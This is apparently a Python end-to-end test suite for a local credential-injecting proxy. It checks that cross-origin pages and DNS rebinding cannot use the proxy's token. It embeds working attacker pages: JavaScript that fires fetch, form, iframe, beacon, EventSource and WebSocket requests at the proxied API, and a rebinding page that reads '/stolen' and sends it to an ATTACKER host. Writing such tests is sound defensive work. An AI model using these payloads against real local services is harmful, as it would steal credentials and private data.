"""
A page on another origin, in a real browser on the proxy's machine, makes no request with the proxy's token.

Each attack is also made without the defence, where it must reach the API: otherwise these tests would show nothing.
"""

from __future__ import annotations

import asyncio
import re
from contextlib import asynccontextmanager
from typing import TYPE_CHECKING, Any, Final

import pytest
from aiohttp import ClientSession, web

from tests.e2e.chromium import ATTACKER, REBOUND, needs_chromium, open_page
from tests.e2e.proxy_process import proxy_process

if TYPE_CHECKING:
    from collections.abc import AsyncIterator
    from pathlib import Path

    from tests.e2e.conftest import Configure

pytestmark = [needs_chromium, pytest.mark.timeout(180)]

_WITHIN: Final = 90.0
"""Seconds for a browser to start and to make its requests: far more than it takes, for busy machines."""

SECRET_ANSWER: Final = "metering data"

ATTACKS: Final = frozenset(
    {
        *(
            "/fetch-opaque",
            "/fetch-to-read",
            "/fetch-with-preflight",
            "/image",
            "/script",
            "/form",
            "/form-get",
            "/frame",
        ),
        *("/beacon", "/events", "/websocket"),
    }
)

_ATTACKING_PAGE: Final = """<!doctype html><title>attacker</title><body><script>
const api = 'http://localhost:PORT', wait = [], read = [];
const settled = (make) => wait.push(new Promise((resolve) => { setTimeout(resolve, 8000); make(resolve); }));
const add = (name, values) => { const made = Object.assign(document.createElement(name), values); document.body.append(made); return made; };
const get = (path, options) => settled((done) => fetch(api + path, options)
  .then((response) => response.text()).then((text) => read.push(text)).then(done, done));
get('/fetch-opaque', {mode: 'no-cors'});
get('/fetch-to-read');
get('/fetch-with-preflight', {method: 'PUT', headers: {'X-Made-Up': 'a'}});
settled((done) => add('img', {onload: done, onerror: done, src: api + '/image'}));
settled((done) => add('script', {onload: done, onerror: done, src: api + '/script'}));
for (const method of ['post', 'get']) settled((done) => {
  add('iframe', {name: 'target-' + method, onload: () => setTimeout(done, 500)});
  add('form', {method, target: 'target-' + method, action: api + (method === 'get' ? '/form-get' : '/form')}).submit();
});
settled((done) => add('iframe', {src: api + '/frame', onload: () => setTimeout(done, 500)}));
navigator.sendBeacon(api + '/beacon', 'a');
settled((done) => { const events = new EventSource(api + '/events'); events.onopen = events.onerror = () => { events.close(); done(); }; });
settled((done) => { const socket = new WebSocket('ws://localhost:PORT/websocket'); socket.onopen = socket.onerror = done; });
Promise.all(wait).then(() => fetch('/done?read=' + encodeURIComponent(read.join('|'))));
</script>"""

_REBINDING_PAGE: Final = """<!doctype html><title>rebinding</title><script>
fetch('/stolen').then((response) => response.text())
  .then((text) => fetch('http://ATTACKER:PORT/done?read=' + encodeURIComponent(text), {mode: 'no-cors'}));
</script>"""

_PERMISSIVE: Final = {
    "Access-Control-Allow-Origin": "*",
    "Access-Control-Allow-Methods": "*",
    "Access-Control-Allow-Headers": "*",
}
"""An API that shares its responses with every page is the worst case."""


class Servers:
    """The API and the attacker's server, and what reached them."""

    def __init__(self) -> None:
        self.reached: set[str] = set()
        """Paths of the requests with a token that reached the API."""
        self.page = ""
        self.done: asyncio.Future[str] = asyncio.get_running_loop().create_future()

    async def api(self, request: web.BaseRequest) -> web.StreamResponse:
        assert request.headers["Authorization"].startswith("Bearer ")
        if request.method != "OPTIONS" and request.path != "/favicon.ico":
            self.reached.add(request.path)
        if request.path == "/events":
            return web.Response(text="data: a\n\n", content_type="text/event-stream", headers=_PERMISSIVE)
        return web.Response(text=SECRET_ANSWER, headers=_PERMISSIVE)

    async def attacker(self, request: web.BaseRequest) -> web.StreamResponse:
        if request.path == "/page":
            return web.Response(text=self.page, content_type="text/html")
        if request.path == "/done" and not self.done.done():
            self.done.set_result(request.query["read"])
        return web.Response(text="")


@asynccontextmanager
async def serving(handler: Any) -> AsyncIterator[int]:
    """Serve on loopback; yield the port."""
    runner = web.ServerRunner(web.Server(handler), shutdown_timeout=0.1)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        yield runner.addresses[0][1]
    finally:
        await runner.cleanup()


@asynccontextmanager
async def proxied(configure: Configure, servers: Servers, *, is_defended: bool) -> AsyncIterator[int]:
    """Run the proxy before the API; yield its port."""
    async with serving(servers.api) as api:
        route: dict[str, Any] = {
            "name": "api",
            "listen": "127.0.0.1:0",
            "upstream": f"http://127.0.0.1:{api}",
            "credential": "switch",
        }
        if not is_defended:
            route |= {"allowed_hosts": ["*"], "allowed_origins": ["*"]}
        async with proxy_process(configure(routes=[route])) as proxy:
            yield int((await proxy.url("api")).rpartition(":")[2])


@pytest.mark.parametrize("is_defended", [True, False], ids=["with the defence", "without it"])
async def test_a_page_on_another_origin_reaches_the_api_only_without_the_defence(
    configure: Configure, tmp_path: Path, *, is_defended: bool
) -> None:
    servers = Servers()
    async with (
        proxied(configure, servers, is_defended=is_defended) as proxy,
        serving(servers.attacker) as attacker,
    ):
        servers.page = _ATTACKING_PAGE.replace("PORT", str(proxy))
        async with open_page(f"http://{ATTACKER}:{attacker}/page", profile=tmp_path / "profile"):
            async with asyncio.timeout(_WITHIN):
                read = await servers.done
    assert (servers.reached, SECRET_ANSWER in read) == ((set(), False) if is_defended else (ATTACKS, True))


@pytest.mark.parametrize("is_defended", [True, False], ids=["with the defence", "without it"])
async def test_a_name_that_leads_to_loopback_reads_the_api_only_without_the_defence(
    configure: Configure, tmp_path: Path, *, is_defended: bool
) -> None:
    """DNS rebinding: the page's name led to the attacker's server when it was opened, and leads to the proxy now."""
    servers = Servers()
    async with (
        proxied(configure, servers, is_defended=is_defended) as proxy,
        serving(servers.attacker) as attacker,
        ClientSession() as session,
    ):

        async def rebound(request: web.BaseRequest) -> web.StreamResponse:
            if request.path == "/page":
                return await servers.attacker(request)
            # As it came, its Host above all.
            async with session.request(
                request.method, f"http://127.0.0.1:{proxy}{request.path_qs}", headers=request.headers
            ) as response:
                return web.Response(status=response.status, text=await response.text())

        async with serving(rebound) as port:
            servers.page = re.sub("PORT", str(attacker), _REBINDING_PAGE.replace("ATTACKER", ATTACKER))
            async with open_page(f"http://{REBOUND}:{port}/page", profile=tmp_path / "profile"):
                async with asyncio.timeout(_WITHIN):
                    read = await servers.done
    assert (servers.reached, read == SECRET_ANSWER) == ((set(), False) if is_defended else ({"/stolen"}, True))
    assert is_defended == ("host-not-allowed" in read)
